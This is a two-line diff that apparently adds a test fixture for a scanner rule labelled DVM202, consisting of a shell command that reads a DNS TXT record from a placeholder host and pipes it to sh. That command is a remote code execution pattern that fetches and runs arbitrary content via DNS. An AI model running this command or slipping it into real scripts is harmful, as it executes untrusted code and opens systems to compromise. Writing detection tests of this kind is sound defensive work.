@@ -1,0 +1,2 @@
+# expect: DVM202
+dig +short txt x.example.org | sh
